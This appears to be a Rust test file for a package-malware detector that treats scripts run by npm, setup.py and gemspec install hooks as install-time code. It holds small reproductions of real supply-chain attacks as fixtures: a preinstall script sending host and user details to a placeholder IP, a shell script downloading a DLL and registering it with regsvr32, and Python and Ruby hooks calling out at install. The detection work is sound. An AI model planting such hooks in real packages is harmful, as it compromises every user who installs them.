//! The cross-file pass: a file that an install hook runs is analysed as
//! install-time code, its medium behaviour findings are raised to high and
//! every finding names the hook. Each malicious case is a minimal
//! reproduction, written for this project from the published description
//! of a real attack (inert addresses, never run); each has a benign
//! counterpart that must not alarm.

use std::sync::Arc;

use oversight_behaviour::{Behaviour, InstallHooks, analyse};
use oversight_detect::Emit;
use oversight_model::Severity;

fn with_hooks(manifests: &[(&str, &str)]) -> (Behaviour, Arc<InstallHooks>) {
    let mut hooks = InstallHooks::new();
    for (path, text) in manifests {
        hooks.add_manifest(path, text.as_bytes());
    }
    let hooks = Arc::new(hooks);
    let detector = Behaviour::builtin()
        .expect("the built-in rules load")
        .with_install_hooks(hooks.clone());
    (detector, hooks)
}

fn alarms(found: &[Emit]) -> Vec<String> {
    found
        .iter()
        .filter(|e| e.rule.default_severity >= Severity::Medium)
        .map(|e| format!("{} {:?} {}", e.rule.id, e.line_col, e.message))
        .collect()
}

/// Dependency confusion (Alex Birsan, February 2021): `"preinstall":
/// "node index.js"`, and index.js sends the host name, user and home
/// directory to a server of the attacker's. The hook is one harmless-looking
/// line; the behaviour is in the other file.
const DEPCONF_PACKAGE: &str = r#"{
  "name": "internal-billing-client",
  "version": "99.0.0",
  "scripts": {
    "preinstall": "node lib/index.js"
  }
}
"#;

const DEPCONF_INDEX: &str = r#"const os = require("os");
const https = require("https");
const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: os.homedir() });
const req = https.request({ hostname: "198.51.100.20", port: 443, path: "/c", method: "POST" });
req.write(data);
req.end();
"#;

#[test]
fn an_npm_hook_script_is_install_time_code_and_names_its_hook() {
    let (detector, hooks) = with_hooks(&[("pkg/package.json", DEPCONF_PACKAGE)]);
    let site = hooks.target("pkg/lib/index.js").expect("the hook's target");
    assert_eq!(
        (site.manifest.as_str(), site.line, site.hook.as_str()),
        ("pkg/package.json", 5, "preinstall")
    );
    let found = analyse(&detector, "pkg/lib/index.js", DEPCONF_INDEX.as_bytes());
    let raised: Vec<&Emit> = found
        .iter()
        .filter(|e| e.rule.id == "malicious.install-hook-behaviour")
        .collect();
    assert!(
        raised.iter().any(|e| e.line_col.map(|(l, _)| l) == Some(5)
            && e.rule.default_severity == Severity::High
            && e.message
                .contains("`preinstall` in pkg/package.json line 5")),
        "the send is raised to high and names the hook: {:#?}",
        alarms(&found)
    );
    assert!(
        found
            .iter()
            .any(|e| e.rule.id == "malicious.install-time-network"),
        "network access at install time: {:#?}",
        alarms(&found)
    );
    assert!(
        found
            .iter()
            .filter(|e| e.rule.category == oversight_model::Category::Malicious)
            .all(|e| e.message.contains("preinstall` in pkg/package.json line 5")),
        "every finding says the file runs at install time"
    );

    // The same file without the cross-file pass: no install-time findings.
    let alone = analyse(
        &Behaviour::builtin().expect("the built-in rules load"),
        "pkg/lib/index.js",
        DEPCONF_INDEX.as_bytes(),
    );
    assert!(
        !alone
            .iter()
            .any(|e| e.rule.id == "malicious.install-hook-behaviour"
                || e.rule.id == "malicious.install-time-network"),
        "{:#?}",
        alarms(&alone)
    );
}

#[test]
fn a_benign_postinstall_script_does_not_alarm() {
    // A native add-on's postinstall that prints where the docs are (the
    // pattern of core-js and many others), and an install hook that builds.
    let (detector, hooks) = with_hooks(&[(
        "package.json",
        r#"{ "name": "native-addon", "scripts": {
             "install": "node-gyp-build",
             "postinstall": "node scripts/postinstall.js || true",
             "test": "node test/run.js" } }"#,
    )]);
    assert!(hooks.target("scripts/postinstall.js").is_some());
    assert!(
        hooks.target("test/run.js").is_none(),
        "`test` is not an install hook"
    );
    let found = analyse(
        &detector,
        "scripts/postinstall.js",
        br#"const os = require("os");
if (!process.env.CI && process.stdout.isTTY) {
  console.log("Thanks for installing native-addon on " + os.platform() + "! Docs: https://example.com/docs");
}
"#,
    );
    assert!(alarms(&found).is_empty(), "{:#?}", alarms(&found));
}

/// coa and rc (npm account takeovers, November 2021): `"preinstall":
/// "start /B node compile.js & node compile.js"`; compile.js started a
/// batch file that fetched a DLL with curl and registered it with
/// regsvr32. Here the script is a shell file run as `sh ./compile.sh`.
#[test]
fn a_shell_script_run_by_a_hook_is_install_time_code() {
    let (detector, hooks) = with_hooks(&[(
        "package/package.json",
        r#"{ "name": "coa", "version": "2.0.3",
  "scripts": { "preinstall": "start /B node compile.js & sh ./compile.sh" } }"#,
    )]);
    assert!(hooks.target("package/compile.js").is_some());
    let found = analyse(
        &detector,
        "package/compile.sh",
        b"#!/bin/sh\ncurl -s https://198.51.100.7/sdd.dll -o compile.dll\nregsvr32.exe -s compile.dll\n",
    );
    assert!(
        found
            .iter()
            .any(|e| e.rule.id == "malicious.install-time-download-exec"
                && e.line_col.map(|(l, _)| l) == Some(2)
                && e.message
                    .contains("`preinstall` in package/package.json line 2")),
        "{:#?}",
        alarms(&found)
    );
    // A build script run by `prepare` that compiles: no alarm.
    let (detector, _) = with_hooks(&[(
        "package.json",
        r#"{ "scripts": { "prepare": "sh ./build.sh" } }"#,
    )]);
    let found = analyse(
        &detector,
        "build.sh",
        b"#!/bin/sh\nset -e\nmkdir -p dist\ncp src/*.js dist/\necho built\n",
    );
    assert!(alarms(&found).is_empty(), "{:#?}", alarms(&found));
}

/// colourama (PyPI typosquat of colorama, 2018): the install command
/// downloaded a script to the temporary directory and started it. Here
/// the command class lives in a module of the package that `setup.py`
/// imports, so setup.py itself holds no behaviour.
#[test]
fn a_setup_py_command_class_from_a_local_module_is_install_time_code() {
    let setup = r#"from setuptools import setup
from colourama_build.commands import PostInstall

setup(
    name="colourama",
    version="0.1.6",
    cmdclass={"install": PostInstall},
)
"#;
    let (detector, hooks) = with_hooks(&[("colourama-0.1.6/setup.py", setup)]);
    let site = hooks
        .target("colourama-0.1.6/colourama_build/commands.py")
        .expect("the command class's module");
    assert_eq!((site.line, site.hook.as_str()), (7, "cmdclass"));
    let found = analyse(
        &detector,
        "colourama-0.1.6/colourama_build/commands.py",
        br#"import urllib.request
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        urllib.request.urlopen("http://198.51.100.9/ping").read()
        install.run(self)
"#,
    );
    assert!(
        found
            .iter()
            .any(|e| e.rule.id == "malicious.install-time-network"
                && e.line_col.map(|(l, _)| l) == Some(7)
                && e.message
                    .contains("`cmdclass` in colourama-0.1.6/setup.py line 7")),
        "{:#?}",
        alarms(&found)
    );
    // A build_ext command class from a local module that compiles: no alarm.
    let (detector, _) = with_hooks(&[(
        "setup.py",
        "from setuptools import setup\nfrom build_helpers import BuildExt\nsetup(name='fastmath', cmdclass={'build_ext': BuildExt})\n",
    )]);
    let found = analyse(
        &detector,
        "build_helpers.py",
        br#"from setuptools.command.build_ext import build_ext


class BuildExt(build_ext):
    def build_extensions(self):
        for ext in self.extensions:
            ext.extra_compile_args = ["-O3"]
        build_ext.build_extensions(self)
"#,
    );
    assert!(alarms(&found).is_empty(), "{:#?}", alarms(&found));
}

/// The 2020 RubyGems typosquats (ReversingLabs, April 2020, e.g.
/// `atlas-client`): the gemspec's `extensions` named
/// `ext/trellislike/unflaming/waffling/extconf.rb`, which ran at install
/// time. Here the extension script is named otherwise, as a gemspec may.
#[test]
fn a_gemspec_extension_is_install_time_code() {
    let gemspec = r#"Gem::Specification.new do |s|
  s.name = "atlas-client"
  s.version = "0.0.1"
  s.files = Dir["lib/**/*.rb"]
  s.extensions = ["ext/trellislike/setup_native.rb"]
end
"#;
    let (detector, hooks) = with_hooks(&[("atlas-client.gemspec", gemspec)]);
    let site = hooks
        .target("ext/trellislike/setup_native.rb")
        .expect("the extension script");
    assert_eq!((site.line, site.hook.as_str()), (5, "extensions"));
    let found = analyse(
        &detector,
        "ext/trellislike/setup_native.rb",
        br#"require "net/http"
Net::HTTP.get(URI("http://198.51.100.4/i"))
File.write("Makefile", "install:\n\techo ok\n")
"#,
    );
    assert!(
        found
            .iter()
            .any(|e| e.rule.id == "malicious.install-time-network"
                && e.message
                    .contains("`extensions` in atlas-client.gemspec line 5")),
        "{:#?}",
        alarms(&found)
    );
    // A native extension's extconf.rb that checks for a header: no alarm.
    let (detector, _) = with_hooks(&[(
        "nokogiri-like.gemspec",
        "Gem::Specification.new do |s|\n  s.extensions = %w[ext/fast/extconf.rb]\nend\n",
    )]);
    let found = analyse(
        &detector,
        "ext/fast/extconf.rb",
        b"require \"mkmf\"\nhave_header(\"zlib.h\")\ncreate_makefile(\"fast/fast\")\n",
    );
    assert!(alarms(&found).is_empty(), "{:#?}", alarms(&found));
}
